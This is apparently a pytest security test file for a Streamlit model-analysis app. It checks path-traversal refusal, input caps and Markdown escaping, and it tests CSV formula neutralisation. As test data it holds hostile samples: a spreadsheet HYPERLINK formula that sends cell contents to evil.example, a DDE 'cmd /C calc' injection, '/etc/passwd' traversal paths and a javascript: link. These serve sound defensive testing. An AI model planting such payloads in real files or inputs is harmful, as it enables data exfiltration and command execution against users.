"""Hostile input from the app's URL, its forms and imported files, and from
the command line: refused with one line, or neutralised where it is shown
or exported."""
from __future__ import annotations

import os
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from dowsing.safe_text import md_escape

import streamlit_server

APP = str(Path(__file__).resolve().parent.parent / "app.py")


@pytest.fixture(scope="module")
def cache(tmp_path_factory):
    """A private cache for this module; cached Streamlit resources are dropped
    so they point at it."""
    folder = tmp_path_factory.mktemp("security-cache")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("DOWSING_CACHE", str(folder))
        mp.setenv("HF_HUB_OFFLINE", "1")
        st.cache_resource.clear()
        st.cache_data.clear()
        yield folder
        st.cache_resource.clear()
        st.cache_data.clear()


@pytest.fixture
def roots(tmp_path, monkeypatch):
    """(the one model root, a folder outside it holding a model-like folder)."""
    root = tmp_path / "models"
    outside = tmp_path / "elsewhere"
    for folder in (root, outside / "model"):
        folder.mkdir(parents=True)
    (outside / "model" / "config.json").write_text('{"model_type": "gpt2"}')
    (outside / "empty").mkdir()
    monkeypatch.setenv("DOWSING_MODEL_ROOTS", str(root))
    return root, outside


# --- the model picker ---------------------------------------------------------

def test_the_model_picker_is_not_tied_to_the_url(cache, tiny_gpt2_dir):
    """A widget bound to the URL both writes its value there and reads it from
    a link; unbound, a link cannot pick a model."""
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["source"] = "directory"
    at.session_state["model"] = str(tiny_gpt2_dir)
    at.run()
    assert not at.exception, at.exception
    assert not {"source", "model", "checkpoints_text"} & set(at.query_params)


def test_every_path_outside_the_roots_gets_one_message(roots, tmp_path):
    from dowsing.access.models import NOT_ALLOWED, ModelError, allowed_model, load_model

    root, outside = roots
    (root / "link").symlink_to(outside / "model")  # inside by name, outside once resolved
    hostile = [str(outside / "model"), str(outside / "empty"), str(outside / "missing"), str(outside / "x.gguf"),
               str(root / ".." / "elsewhere" / "model"), str(root / "link"), "/etc", "~", "../../etc/passwd",
               "/no/such/folder", "bad\0path"]
    for text in hostile:
        with pytest.raises(ModelError) as caught:
            allowed_model(text)
        assert str(caught.value) == NOT_ALLOWED, text
    inside = root / "mine"
    inside.mkdir()
    assert allowed_model(str(inside)) == str(inside.resolve())
    assert allowed_model("gpt2") == "gpt2" and allowed_model(None) is None
    # the command line is not restricted: a path typed there is the user's own choice
    with pytest.raises(ModelError, match="holds no config.json"):
        load_model(str(outside / "empty"))


def test_the_app_shows_one_message_for_paths_outside_the_roots(cache, roots):
    from dowsing.access.models import NOT_ALLOWED

    _, outside = roots
    shown = []
    for text in (str(outside / "model"), str(outside / "empty"), str(outside / "missing")):
        at = AppTest.from_file(APP, default_timeout=60)
        at.session_state["source"] = "directory"
        at.session_state["model"] = text
        at.run()
        assert not at.exception, at.exception
        shown.append([m.value for m in at.sidebar.info] + [m.value for m in at.sidebar.error])
    assert shown == [[md_escape(NOT_ALLOWED)]] * 3


def test_checkpoints_outside_the_roots_are_refused_in_the_app_and_the_worker(cache, roots):
    from dowsing.access.checkpoints import CheckpointError, allowed_checkpoints
    from dowsing.config import AnalysisConfig
    from dowsing.domains import default_domains
    from dowsing.background.jobs import JobRequest
    from dowsing.access.models import NOT_ALLOWED, ModelError
    from dowsing.background.worker import check_model_paths

    root, outside = roots
    specs = (str(outside / "model"), str(outside / "empty"))
    with pytest.raises(CheckpointError, match="not allowed"):
        allowed_checkpoints(specs)
    assert allowed_checkpoints(("owner/name@step100",)) == ("owner/name@step100",)
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["source"] = "checkpoints"
    at.session_state["checkpoints_text"] = "\n".join(specs)
    at.run()
    assert not at.exception, at.exception
    assert [m.value for m in at.sidebar.info] == [md_escape(NOT_ALLOWED)]
    # a job request carries what the app sent: the worker checks it again
    domains = default_domains()
    with pytest.raises(ModelError, match="not allowed"):
        check_model_paths(JobRequest(model_id=str(outside / "model"), domains=domains))
    with pytest.raises(CheckpointError, match="not allowed"):
        check_model_paths(JobRequest(model_id=None, domains=domains, config=AnalysisConfig(checkpoints=specs)))


# --- limits ---------------------------------------------------------------------

def _write_domains(path: Path, domains: list) -> Path:
    import json

    path.write_text(json.dumps({"domains": domains}), encoding="utf-8")
    return path


def _over_the_caps() -> dict:
    """Domain sets each over one cap (the bytes one in multi-byte characters:
    within the cap counted in characters)."""
    from dowsing.limits import LIMITS

    euro = "€" * (LIMITS.max_fact_bytes // 3 + 10)
    return {
        "domains": [{"name": f"D{i}", "facts": [f"fact a{i}", f"fact b{i}"]} for i in range(LIMITS.max_domains + 1)],
        "facts per domain": [{"name": "A", "facts": [f"fact {i}" for i in range(LIMITS.max_facts_per_domain + 1)]}],
        "bytes per fact": [{"name": "A", "facts": [euro, "A second fact."]}],
    }


@pytest.mark.parametrize("case", ["domains", "facts per domain", "bytes per fact"])
def test_domain_sets_over_a_cap_exit_2_and_write_nothing(case, tmp_path, capsys, tiny_gpt2_dir):
    from dowsing.cli import main

    domains = _write_domains(tmp_path / "d.json", _over_the_caps()[case])
    out = tmp_path / "o.json"
    for argv in (["analyze", "--quiet", "--model", str(tiny_gpt2_dir)],
                 ["analyze", "--estimate", "--model", str(tiny_gpt2_dir)],
                 ["validate", "--quiet", "--model", str(tiny_gpt2_dir)],
                 ["plan", "--quiet", "--budget", "10", "--model", str(tiny_gpt2_dir)]):
        code = main(argv + ["--domains", str(domains), "--out", str(out)])
        err = capsys.readouterr().err
        assert code == 2, (argv, err)
        assert err.startswith("error: ") and len(err.strip().splitlines()) == 1 and "at most" in err, err
        assert not out.exists()


def test_the_domains_page_shows_a_cap(cache, tiny_gpt2_dir):
    from dowsing import workspace

    before = workspace.active_set()
    workspace.save_set_raw("Huge", _over_the_caps()["bytes per fact"])
    workspace.set_active("Huge")
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["source"] = "directory"
    at.session_state["model"] = str(tiny_gpt2_dir)
    at.run()
    at.switch_page("pages/domains.py")
    at.run()
    workspace.set_active(before)
    assert not at.exception, at.exception
    shown = [m.value for m in at.error] + [m.value for m in at.warning] + [m.value for m in at.markdown]
    assert any("bytes" in m and "at most" in m for m in shown), shown


def test_facts_over_the_token_cap_are_refused_before_the_run(tmp_path, capsys, monkeypatch, tiny_gpt2_dir):
    from dowsing import limits
    from dowsing.cli import main

    monkeypatch.setattr(limits, "LIMITS", limits.Limits(max_total_tokens=20))
    domains = _write_domains(tmp_path / "d.json", [
        {"name": "A", "facts": ["Light travels faster than sound.", "A force changes the motion of a body."]},
        {"name": "B", "facts": ["The Moon orbits the Earth.", "The Sun is a star in our galaxy."]}])
    out = tmp_path / "o.json"
    for extra in ([], ["--estimate"]):
        code = main(["analyze", "--quiet", "--no-cache", "--model", str(tiny_gpt2_dir), "--domains", str(domains),
                     "--out", str(out), *extra])
        err = capsys.readouterr().err
        assert code == 2 and "20 tokens" in err and len(err.strip().splitlines()) == 1, err
        assert not out.exists()


def test_a_run_over_the_memory_available_is_refused(cache, tmp_path, capsys, monkeypatch, tiny_gpt2_dir):
    from dowsing.estimates import cost_report
    from dowsing.cli import main

    monkeypatch.setattr(cost_report, "available_memory_bytes", lambda device="cpu": 1000)
    code = main(["analyze", "--estimate", "--model", str(tiny_gpt2_dir), "--out", str(tmp_path / "o.json")])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error: ") and "refused" in err and len(err.strip().splitlines()) == 1, err
    assert not (tmp_path / "o.json").exists()
    # the Run page: Analyze disabled, with the reason and the numbers
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["source"] = "directory"
    at.session_state["model"] = str(tiny_gpt2_dir)
    at.run()
    at.switch_page("pages/run.py")
    at.run()
    assert not at.exception, at.exception
    analyze = next(b for b in at.button if b.label == "Analyze")
    assert analyze.disabled
    reason = [w.value for w in at.warning if "refused" in w.value]
    assert reason and "1 kB" in reason[0], [w.value for w in at.warning]


# --- output files ---------------------------------------------------------------

SMALL = [{"name": "A", "facts": ["Light travels faster than sound.", "A force changes the motion of a body.",
                                 "Energy is conserved in a closed system.", "Heat flows from hot to cold."]},
         {"name": "B", "facts": ["The Moon orbits the Earth.", "The Sun is a star in our galaxy.",
                                 "Jupiter is the largest planet.", "Mars has two small moons."]}]


@pytest.mark.parametrize("command", [["analyze"], ["analyze", "--estimate"], ["validate"], ["benchmark", "--quick"],
                                     ["plan", "--budget", "10"]],
                         ids=["analyze", "analyze-estimate", "validate", "benchmark", "plan"])
def test_every_command_checks_its_output_files_before_it_runs(command, tmp_path, capsys, tiny_gpt2_dir):
    from dowsing.cli import main

    domains = _write_domains(tmp_path / "d.json", SMALL)
    (tmp_path / "a-file").write_text("x")
    bad = {str(tmp_path): "is a directory", str(tmp_path / "no" / "o.json"): "does not exist",
           str(tmp_path / "a-file" / "o.json"): "not a folder", "/proc/dowsing-o.json": "no file can be written"}
    before = sorted(p.name for p in tmp_path.iterdir())
    for option in ("--out", "--progress-file"):
        if option == "--progress-file" and command[0] == "analyze":
            continue  # analyze keeps no progress file
        for path, reason in bad.items():
            code = main([*command, "--quiet", "--model", str(tiny_gpt2_dir), "--domains", str(domains),
                         option, path])
            err = capsys.readouterr().err
            assert code == 2, (command, option, path, err)
            assert err.startswith(f"error: {option}") and reason in err and len(err.strip().splitlines()) == 1, err
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing written, no probe left behind


# --- CSV exports ------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A2)",
            "'=already quoted", "''+two apostrophes"]


def _cells(text: str) -> list:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_results_csv_neutralises_formulas():
    from test_charts_report import paper_like_result

    from dowsing.presentation import report

    result = paper_like_result()
    for d, name in zip(result.domains, FORMULAS):
        d.name = name
    cells = _cells(report.to_csv(result))
    for name in FORMULAS[:4]:
        assert "'" + name in cells and name not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_plan_csv_neutralises_formulas():
    from test_charts_report import _measured_plan

    from dowsing.pipelines.plan import plan_csv

    plan, _ = _measured_plan()
    for rows in (plan.domains, plan.even_domains, *plan.simple_domains.values()):  # the CSV holds what is recommended
        rows[0]["domain"] = FORMULAS[0]
        rows[1]["domain"] = FORMULAS[3]
    cells = _cells(plan_csv(plan))
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[3] in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_domains_csv_neutralises_formulas_and_reads_back_the_same_facts():
    from dowsing.domains import Domain, domains_to_csv, parse_domains_csv

    domains = [Domain("=cmd|' /C calc'!A0", tuple(FORMULAS[:3])),
               Domain("Plain", (FORMULAS[3], FORMULAS[4], FORMULAS[5], "'a quoted fact", "An ordinary fact."))]
    text = domains_to_csv(domains)
    cells = _cells(text)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert parse_domains_csv(text) == domains


# --- set names --------------------------------------------------------------------

def test_set_names_are_limited_in_utf8_bytes(tmp_path):
    from dowsing.workspace import MAX_NAME_BYTES, Workspace, WorkspaceError

    ws = Workspace(tmp_path / "ws")
    for name in ("😀" * 80, "é" * 41, "x" * (MAX_NAME_BYTES + 1)):
        with pytest.raises(WorkspaceError, match="bytes"):
            ws.create_set(name)
    assert ws.create_set("é" * 40) == "é" * 40  # 80 bytes
    assert ws.create_set("😀" * 20) == "😀" * 20
    assert ws.load_set_raw("😀" * 20) == []


@pytest.mark.parametrize("active", ["../../../../outside", "../sets/Science (paper)", "sets/x", "/etc/passwd", "..",
                                    "No such set", "", 5, None, ["x"], "Science (paper)\n"])
def test_a_tampered_active_set_falls_back_to_a_set_of_the_workspace(active, tmp_path):
    import json

    from dowsing.workspace import DEFAULT_SET, Workspace

    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps({"version": 1, "domains": []}))
    ws = Workspace(tmp_path / "a" / "b" / "ws")
    ws.create_set("Mine")
    state = json.loads(ws.state_path.read_text())
    ws.state_path.write_text(json.dumps({**state, "active": active}))
    assert ws.list_sets() == ["Mine", DEFAULT_SET]
    assert ws.active_set() == "Mine"  # the first set
    assert json.loads(ws.state_path.read_text())["active"] == "Mine"
    assert outside.read_text() == json.dumps({"version": 1, "domains": []})
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "outside.json"]


# --- Markdown ---------------------------------------------------------------------

# Text that Markdown, Streamlit's directives, icons and emoji, LaTeX, HTML or GFM's
# bare links would turn into something else; every one must show as typed.
MARKDOWN_HOSTILE = [
    "![beacon](http://127.0.0.1:9/beacon.png)", ":red[x] and :material/home: and :streamlit:", "$x^2$ and $$y$$",
    "<b>bold</b><img src=x>", "[link](javascript:alert(1))", "**strong** _em_ `code` ~~del~~", "# heading",
    "1. item", "- item", "> quote", "a\\*b", "&amp; &lt;", "http://auto.link.example", "| a | b |",
    ":smile: :red-background[x] :+1:", "x <https://a.example>", "mail me@example.com", "see www.example.com now",
    "[x]: http://ref.example", "H~2~O", "=1+1", "@user", "5 * 3 = 15", "a_b_c",
]
CHROMIUM = Path("/usr/bin/chromium")


def test_escaped_text_holds_no_scheme_shortcode_or_address_that_streamlit_acts_on():
    """What Streamlit turns into markup after parsing, past backslash escapes:
    none of it survives md_escape as contiguous text."""
    escaped = " ".join(md_escape(text) for text in MARKDOWN_HOSTILE + ["[c](javascript:alert(1))"])
    for live in ("javascript:", "http:", "https:", ":material", ":streamlit:", ":smile:", "me@example", "www.",
                 "127.0.0.1:9"):
        assert live not in escaped.replace("\\", ""), live


@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's Chromium is not installed at /usr/bin/chromium")
def test_escaped_text_renders_as_typed_in_a_real_browser(tmp_path):
    """st.markdown, st.caption, st.info, a button label and an expander label
    of md_escape(text), read back from Chromium's DOM: the same characters
    (the invisible word joiners aside), no element but the paragraph, and no
    request anywhere."""
    import re

    playwright = pytest.importorskip("playwright.sync_api")
    repo = Path(__file__).resolve().parent.parent
    script = tmp_path / "probe.py"
    script.write_text(
        f"import sys\nsys.path.insert(0, {str(repo)!r})\nimport streamlit as st\n"
        "from dowsing.safe_text import md_escape\n"
        f"HOSTILE = {MARKDOWN_HOSTILE!r}\n"
        "for i, h in enumerate(HOSTILE):\n"
        "    st.markdown(f'M{i}<<{md_escape(h)}>>')\n"
        "    st.caption(f'C{i}<<{md_escape(h)}>>')\n"
        "st.info('I1<<' + md_escape(HOSTILE[1]) + '>>')\n"
        "st.button('B1<<' + md_escape(HOSTILE[1]) + '>>')\n"
        "with st.expander('E0<<' + md_escape(HOSTILE[0]) + '>>'):\n"
        "    pass\n")
    server, url = streamlit_server.start(script, tmp_path, dict(os.environ))
    try:
        with playwright.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
            page = browser.new_page()
            requests = []
            page.on("request", lambda r: requests.append(r.url))
            page.goto(f"{url}/")
            page.wait_for_selector("text=E0<<", timeout=60_000)
            page.wait_for_timeout(2000)  # lazily loaded Markdown plugins (emoji, KaTeX)
            shown = page.eval_on_selector_all(
                "[data-testid=stMarkdownContainer], [data-testid=stCaptionContainer]",
                "els => els.map(e => [e.innerText, e.innerHTML])")
            browser.close()
    finally:
        streamlit_server.stop(server)
    seen = set()
    for text, html in shown:
        found = re.fullmatch(r"([MCIBE])(\d+)<<(.*)>>", text.replace("\u2060", ""), re.S)
        assert found, text
        kind, index, body = found.groups()
        assert body == MARKDOWN_HOSTILE[int(index)], (kind, body, html)
        assert set(re.findall(r"<(\w+)", html)) <= {"p"}, (kind, html)
        seen.add(kind + index)
    assert len(seen) == 2 * len(MARKDOWN_HOSTILE) + 3
    assert all(r.startswith(f"{url}/") for r in requests), requests


HOSTILE_SET = "<b>Hostile :red[set] ![s](x)"
HOSTILE_NAMES = ["![b](http://127.0.0.1:9/b.png) :red[R]", "$x$ <b>B</b> :material/home: www.example.com"]
RAW_MARKUP = ("![", ":red[", "<b>", "$x$", ":material/home:", "www.example.com", "](http")


def _shown_text(at) -> list:
    """Every text of the page that Streamlit renders as Markdown, but the
    results table (HTML, escaped as HTML)."""
    texts = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "subheader", "title"):
        texts += [e.value for e in getattr(at, kind)]
    texts += [m.label for m in at.metric] + [str(m.value) for m in at.metric] + [t.label for t in at.tabs]
    texts += [e.label for e in at.expander]
    return [t for t in texts if "dw-table" not in t]


def _app(tiny_gpt2_dir, page=None):
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["source"] = "directory"
    at.session_state["model"] = str(tiny_gpt2_dir)
    at.session_state["cfg_estimator"] = "mean_loss"  # the quickest ranking
    at.run()
    if page:
        at.switch_page(page)
        at.run()
    assert not at.exception, at.exception
    return at


def test_names_and_facts_reach_markdown_escaped_on_every_page(cache, tiny_gpt2_dir):
    import time

    from dowsing import workspace

    before = workspace.active_set()
    facts = [["Light travels faster than sound. ![i](http://127.0.0.1:9/i.png)",
              "A force changes the motion of a body.", "Energy is conserved in a closed system."],
             ["The Moon orbits the Earth.", "The Sun is a star.", "Jupiter is the largest planet."]]
    # one fact too few: the Domains and Run pages show problems that name the domain
    workspace.save_set_raw(HOSTILE_SET, [{"name": HOSTILE_NAMES[0], "facts": facts[0][:1]},
                                                        {"name": HOSTILE_NAMES[1], "facts": facts[1]}])
    workspace.set_active(HOSTILE_SET)
    try:
        for page in ("pages/domains.py", "pages/run.py", "pages/plan.py", "pages/validate.py", "pages/benchmark.py"):
            shown = _shown_text(_app(tiny_gpt2_dir, page))
            escaped = (md_escape(HOSTILE_NAMES[0]), md_escape(HOSTILE_SET))
            assert any(e in t for t in shown for e in escaped) or page == "pages/benchmark.py", page
            assert not [t for t in shown for raw in RAW_MARKUP if raw in t], page
        # a finished analysis of the set: its Results, Run history and Compare
        workspace.save_set_raw(HOSTILE_SET, [{"name": n, "facts": f}
                                                            for n, f in zip(HOSTILE_NAMES, facts)])
        at = _app(tiny_gpt2_dir, "pages/run.py")
        next(b for b in at.button if b.label == "Analyze").click()
        deadline = time.monotonic() + 180
        while not any(s.value.startswith("Finished") for s in at.success):
            assert time.monotonic() < deadline and not at.error, [e.value for e in at.error]
            time.sleep(0.5)
            at.run()
        shown = _shown_text(at)
        assert not [t for t in shown for raw in RAW_MARKUP if raw in t]
        results = _app(tiny_gpt2_dir, "pages/results.py")
        shown = _shown_text(results)
        assert {md_escape(n) for n in HOSTILE_NAMES} <= {t.label for t in results.tabs}
        assert not [t for t in shown for raw in RAW_MARKUP if raw in t]
    finally:
        workspace.set_active(before)


def test_the_model_pick_survives_a_refresh_on_the_server_not_in_the_url(cache, tiny_gpt2_dir):
    import json

    from dowsing import workspace

    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["source"] = "hub"  # nothing typed yet: nothing loads
    at.run()
    at.sidebar.radio(key="source").set_value("directory").run()
    at.sidebar.text_input(key="model").input(str(tiny_gpt2_dir)).run()
    assert not at.exception, at.exception
    assert not {"source", "model"} & set(at.query_params)
    fresh = AppTest.from_file(APP, default_timeout=60)  # a refresh: a new session
    fresh.run()
    assert fresh.session_state["source"] == "directory" and fresh.session_state["model"] == str(tiny_gpt2_dir)
    assert "GPT2LMHeadModel" in fresh.sidebar.success[0].value
    # a tampered pick keeps only text of the picker's own keys, and an unknown source is not applied
    state_path = workspace.Workspace().state_path
    state = json.loads(state_path.read_text())
    state_path.write_text(json.dumps({**state, "model_pick": {"source": "hub", "model": ["x"], "x": "y"}}))
    assert workspace.model_pick() == {"source": "hub"}
    tampered = AppTest.from_file(APP, default_timeout=60)
    tampered.run()
    assert not tampered.exception, tampered.exception
    assert tampered.session_state["source"] == "hub" and "Enter a" in tampered.sidebar.info[0].value
    state_path.write_text(json.dumps({**state, "model_pick": {"source": "nonsense"}}))
    assert workspace.model_pick() == {"source": "nonsense"}  # read as text; the sidebar ignores the source
    workspace.set_model_pick({})
